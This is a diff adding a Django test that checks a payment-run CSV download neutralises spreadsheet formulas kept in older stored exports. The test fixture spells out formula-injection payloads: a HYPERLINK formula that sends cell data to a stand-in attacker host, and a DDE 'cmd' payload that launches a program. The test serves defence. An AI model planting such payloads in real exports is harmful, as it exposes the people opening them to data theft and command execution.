@@ -235,6 +235,35 @@ def test_a_csv_export_run_is_confirmed_and_its_file_downloaded(due: World) -> No
     assert set(Payout.objects.values_list("state", flat=True)) == {PayoutState.PAID}
 
 
+def test_a_bank_file_stored_before_the_shared_writer_downloads_without_formulas(
+    due: World,
+) -> None:
+    """Runs exported before the CSV writer neutralised cells kept the raw names: the download
+    neutralises them too; a plain (negative) number keeps its sign."""
+    raw = (
+        "payout_id,creator,account_name,amount\r\n"
+        '7,"=HYPERLINK(""http://evil.example/?x=""&F3,""x"")",+1+cmd|\' /C calc\'!A0,-12.50\r\n'
+    )
+    run = PaymentRun.objects.create(
+        organization=due.cast.org,
+        state=PaymentRun.State.COMPLETED,
+        trigger=PaymentRun.Trigger.MANUAL,
+        provider="csv_export",
+        export_file=raw,
+    )
+    response = client(due, Role.ADMIN).get(page_url("payment_run_export", pk=run.pk))
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="payment-run-{run.pk}-export.csv"'
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert rows[1] == [
+        "7",
+        '\'=HYPERLINK("http://evil.example/?x="&F3,"x")',
+        "'+1+cmd|' /C calc'!A0",
+        "-12.50",
+    ]
+
+
 # --- progress ---
 
 
